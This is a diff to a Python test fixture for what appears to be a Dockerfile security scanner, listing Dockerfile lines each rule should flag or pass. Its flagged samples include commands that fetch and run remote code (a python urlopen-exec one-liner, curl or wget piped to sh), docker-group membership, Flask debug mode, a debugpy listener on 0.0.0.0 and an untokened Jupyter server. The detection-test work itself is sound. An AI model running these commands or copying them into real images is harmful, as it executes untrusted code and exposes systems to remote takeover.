@@ -84,6 +84,10 @@ DOCKERFILES: dict[tuple[str, str], tuple[list[str], list[str]]] = {
     ),
     ("004", "high"): (
         [
+            image(
+                'RUN python -c "import urllib.request as u;'
+                " exec(u.urlopen('https://a.example/x').read())\""
+            ),
             image("RUN curl -sSf https://example.com/i.sh | sh"),
             image("RUN wget -qO- https://example.com/i.sh | bash -s -- x"),
             image("RUN bash <(curl -s https://example.com/i.sh)"),
@@ -168,7 +172,6 @@ DOCKERFILES: dict[tuple[str, str], tuple[list[str], list[str]]] = {
             image("RUN wget --no-check-certificate https://example.com/a"),
             image("RUN curl -fsSkL https://example.com/a -o a"),
             image("RUN curl --insecure https://example.com/a -o a"),
-            image("RUN uv pip install git+https://example.com/a"),
             image("RUN pip install --trusted-host example.com x==1"),
             image(
                 "RUN apt-get update && apt-get install -y"
@@ -447,6 +450,37 @@ DOCKERFILES: dict[tuple[str, str], tuple[list[str], list[str]]] = {
     ("021", "high"): (
         [image("RUN --security=insecure true")],
         [image("RUN --network=none true")],
+    ),
+    ("005", "medium"): (
+        [image("RUN uv pip install git+https://example.com/a")],
+        [],
+    ),
+    ("030", "medium"): (
+        [
+            image("RUN usermod -aG audio,docker mcpuser"),
+            image("RUN useradd --groups root other"),
+        ],
+        [image("RUN usermod -aG audio mcpuser")],
+    ),
+    ("033", "medium"): (
+        [image("ENV FLASK_DEBUG=1")],
+        [image("ENV FLASK_DEBUG=0")],
+    ),
+    ("033", "high"): (
+        [
+            image("")
+            .replace(
+                '["python",', '["python", "-m", "debugpy", "--listen", "::1",'
+            )
+            .replace("::1", "0.0.0.0:5678"),
+            image("CMD jupyter lab --ServerApp.token=''"),
+        ],
+        [
+            image("").replace(
+                '["python",',
+                '["python", "-m", "debugpy", "--listen", "127.0.0.1:5678",',
+            ),
+        ],
     ),
     ("032", "medium"): (
         [
